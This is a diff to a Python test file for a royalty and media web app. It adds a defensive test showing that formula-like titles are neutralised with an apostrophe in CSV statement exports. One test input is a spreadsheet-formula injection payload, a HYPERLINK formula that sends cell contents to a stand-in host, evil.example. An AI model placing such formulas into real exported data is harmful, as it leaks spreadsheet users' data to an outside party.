@@ -1,9 +1,11 @@
 """Security review, one test per finding kept: uploads pinned by their presigned POST, no client
 text in storage keys, short-lived media URLs, CORS for browsers on other origins, no secret or
-token in the logs, and no member able to change what another owns."""
+token in the logs, no member able to change what another owns, and no formula in a statement's
+CSV."""
 from __future__ import annotations
 
 import base64
+import csv
 import io
 import json
 import logging
@@ -17,7 +19,7 @@ from chalicelib.domain.media import MAX_BYTES, allowed_content_types
 from tests import media_samples as samples
 from tests.hardening.world import unique
 from tests.store_payloads import (
-    SHOPIFY_SECRET, STRIPE_SECRET, checkout_session, shopify_signature, stripe_event, stripe_signature,
+    SHOPIFY_SECRET, STRIPE_SECRET, charge, checkout_session, shopify_signature, stripe_event, stripe_signature,
 )
 
 MEDIA_KINDS = [kind for kind in MAX_BYTES if kind != "text"]
@@ -208,3 +210,50 @@ def test_taking_back_a_heart_takes_back_only_your_own(world, deliver):
 
     assert world.expect(200, "GET", f"/records/{world.bob_record}", "member")["hearted_by_me"] is True
     assert world.expect(200, "GET", f"/records/{world.bob_record}")["heart_count"] == 1
+
+
+# --- statements as CSV ----------------------------------------------------------------------------
+
+MARCH = int(datetime(2025, 3, 10, tzinfo=timezone.utc).timestamp())
+APRIL = int(datetime(2025, 4, 5, tzinfo=timezone.utc).timestamp())
+
+
+def _close(world, deliver, period: str) -> None:
+    world.expect(202, "POST", "/royalty-runs", "admin", json={"period": period})
+    deliver()
+    assert world.expect(200, "GET", f"/royalty-runs/{period}", "admin")["status"] == "closed"
+
+
+def _csv_rows(world, principal: str, period: str) -> list[list[str]]:
+    reply = world.request("GET", f"/me/statements/{period}", principal, headers={"Accept": "text/csv"})
+    assert reply.status_code == 200 and reply.headers["Content-Type"] == "text/csv; charset=utf-8", reply.text
+    return list(csv.reader(io.StringIO(reply.text)))
+
+
+def test_titles_that_look_like_formulas_reach_statement_csvs_as_text_and_amounts_stay_numbers(world, deliver):
+    """Alice's `=HYPERLINK(...)` remixes Bob's `@SUM(1+1)`; Paula's production `=1+1` sells it.
+    March: a sale of 10001 → pool 5000: alice keeps 4000, 1000 reaches bob. April: 3001 refunded
+    → pool 3500: alice −1200, bob −300 (negative amounts, written as numbers)."""
+    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Claim your royalties")'
+    source = world.fresh_record("other_member", title="@SUM(1+1)")
+    remix = world.expect(201, "POST", "/records", "member", json={
+        "kind": "text", "title": hyperlink, "body": "x", "sources": [{"record_id": source}]})["record"]["id"]
+    production = world.expect(201, "POST", "/productions", "producer", json={
+        "title": "=1+1", "format": "book", "currency": "USD"})["id"]
+    world.expect(200, "PUT", f"/productions/{production}/contributions", "producer",
+                 json={"contributions": [{"record_id": remix, "weight": 1}]})
+    world.expect(200, "POST", f"/productions/{production}/release", "producer")
+    world.stripe(checkout_session("pi_formula", 10001, production_id=production), created=MARCH)
+    _close(world, deliver, "2025-03")
+    world.stripe(charge("pi_formula", 10001, 3001), "charge.refunded", created=APRIL)
+    _close(world, deliver, "2025-04")
+
+    header = ["currency", "production_id", "production_title", "record_id", "record_title", "via", "amount"]
+    assert _csv_rows(world, "member", "2025-03") == [
+        header, ["USD", production, "'=1+1", remix, "'" + hyperlink, "contribution", "4000"]]
+    assert _csv_rows(world, "other_member", "2025-03") == [
+        header, ["USD", production, "'=1+1", source, "'@SUM(1+1)", "lineage", "1000"]]
+    assert _csv_rows(world, "member", "2025-04")[1][4:] == ["'" + hyperlink, "contribution", "-1200"]
+    assert _csv_rows(world, "other_member", "2025-04")[1][6] == "-300"
+    lines = world.expect(200, "GET", "/me/statements/2025-04", "member")["statements"][0]["lines"]
+    assert (lines[0]["production_title"], lines[0]["record_title"]) == ("=1+1", hyperlink)  # JSON keeps the text
